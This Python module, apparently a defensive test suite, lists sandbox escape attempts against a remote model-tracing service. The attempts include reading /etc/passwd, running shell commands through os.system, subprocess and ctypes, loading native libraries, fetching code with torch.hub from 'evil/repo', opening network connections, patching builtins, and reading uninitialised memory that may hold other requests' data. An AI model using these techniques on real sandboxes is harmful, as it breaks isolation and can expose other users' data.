"""File I/O through torch/numpy, native code, network, import machinery, builtins patching."""
# ruff: noqa: F841

import numpy
import torch

from sandbox.attacks import PROMPT, TARGET


def torch_save_file(model, backend):
    with model.trace(PROMPT, backend=backend):
        torch.save(model.lm_head.output, TARGET)
        out = model.lm_head.output.save()


def torch_load_file(model, backend):
    with model.trace(PROMPT, backend=backend):
        loaded = torch.load("/etc/passwd", weights_only=False)
        out = model.lm_head.output.save()


def torch_from_file(model, backend):
    with model.trace(PROMPT, backend=backend):
        t = torch.from_file(TARGET, shared=True, size=16)
        out = model.lm_head.output.save()


def numpy_tofile(model, backend):
    with model.trace(PROMPT, backend=backend):
        model.lm_head.output.detach().numpy().tofile(TARGET)
        out = model.lm_head.output.save()


def numpy_save(model, backend):
    with model.trace(PROMPT, backend=backend):
        numpy.save(TARGET, numpy.zeros(3))
        out = model.lm_head.output.save()


def numpy_load_pickle(model, backend):
    with model.trace(PROMPT, backend=backend):
        x = numpy.load("/tmp/anything.npy", allow_pickle=True)
        out = model.lm_head.output.save()


def cpp_extension(model, backend):
    with model.trace(PROMPT, backend=backend):
        torch.utils.cpp_extension.load_inline("evil", "int x;")
        out = model.lm_head.output.save()


def ops_load_library(model, backend):
    with model.trace(PROMPT, backend=backend):
        torch.ops.load_library("/tmp/evil.so")
        out = model.lm_head.output.save()


def numpy_ctypeslib(model, backend):
    with model.trace(PROMPT, backend=backend):
        numpy.ctypeslib.load_library("evil", "/tmp")
        out = model.lm_head.output.save()


def import_ctypes(model, backend):
    with model.trace(PROMPT, backend=backend):
        import ctypes

        ctypes.CDLL(None).system(b"touch /tmp/ndif-sandbox-attack/pwned")
        out = model.lm_head.output.save()


def import_os_system(model, backend):
    with model.trace(PROMPT, backend=backend):
        import os

        os.system("touch " + TARGET)
        out = model.lm_head.output.save()


def import_subprocess(model, backend):
    with model.trace(PROMPT, backend=backend):
        import subprocess

        subprocess.run(["touch", TARGET])
        out = model.lm_head.output.save()


def torch_hub(model, backend):
    with model.trace(PROMPT, backend=backend):
        torch.hub.load("evil/repo", "model")
        out = model.lm_head.output.save()


def network_socket(model, backend):
    with model.trace(PROMPT, backend=backend):
        import socket

        socket.create_connection(("example.com", 80))
        out = model.lm_head.output.save()


def network_urllib(model, backend):
    with model.trace(PROMPT, backend=backend):
        from urllib import request

        request.urlopen("http://example.com")
        out = model.lm_head.output.save()


def import_importlib(model, backend):
    with model.trace(PROMPT, backend=backend):
        import importlib

        os = importlib.import_module("os")
        out = model.lm_head.output.save()


def dunder_import(model, backend):
    with model.trace(PROMPT, backend=backend):
        os = __import__("os")
        out = model.lm_head.output.save()


def sys_modules_patch(model, backend):
    with model.trace(PROMPT, backend=backend):
        import sys

        sys.modules["json"] = None
        out = model.lm_head.output.save()


def builtins_patch(model, backend):
    with model.trace(PROMPT, backend=backend):
        import builtins

        builtins.len = lambda x: 0
        out = model.lm_head.output.save()


def monkeypatch_torch(model, backend):
    with model.trace(PROMPT, backend=backend):
        torch.softmax = torch.zeros_like
        out = model.lm_head.output.save()


def monkeypatch_tensor_class(model, backend):
    with model.trace(PROMPT, backend=backend):
        torch.Tensor.softmax = torch.Tensor.zero_
        out = model.lm_head.output.save()


def open_builtin(model, backend):
    with model.trace(PROMPT, backend=backend):
        with open(TARGET, "w") as f:
            f.write("pwned")
        out = model.lm_head.output.save()


def tokenizer_save_pretrained(model, backend):
    with model.trace(PROMPT, backend=backend):
        model.tokenizer.save_pretrained("/tmp/ndif-sandbox-attack")
        out = model.lm_head.output.save()


def model_save_pretrained(model, backend):
    with model.trace(PROMPT, backend=backend):
        model.save_pretrained("/tmp/ndif-sandbox-attack")
        out = model.lm_head.output.save()


def rust_tokenizer_save(model, backend):
    with model.trace(PROMPT, backend=backend):
        model.tokenizer.backend_tokenizer.save(TARGET)
        out = model.lm_head.output.save()


def uninitialised_memory_resize(model, backend):
    # resize_ grows a tensor into uninitialised memory that may hold an earlier request's data.
    with model.trace(PROMPT, backend=backend):
        t = torch.zeros(1)
        t.resize_(1_000_000)
        out = t.save()


def uninitialised_memory_legacy(model, backend):
    with model.trace(PROMPT, backend=backend):
        out = torch.FloatTensor(1_000_000).save()


ATTACKS = [
    torch_save_file, torch_load_file, torch_from_file, numpy_tofile, numpy_save, numpy_load_pickle,
    cpp_extension, ops_load_library, numpy_ctypeslib, import_ctypes, import_os_system,
    import_subprocess, torch_hub, network_socket, network_urllib, import_importlib, dunder_import,
    sys_modules_patch, builtins_patch, monkeypatch_torch, monkeypatch_tensor_class, open_builtin,
    tokenizer_save_pretrained, model_save_pretrained, rust_tokenizer_save, uninitialised_memory_resize,
    uninitialised_memory_legacy,
]
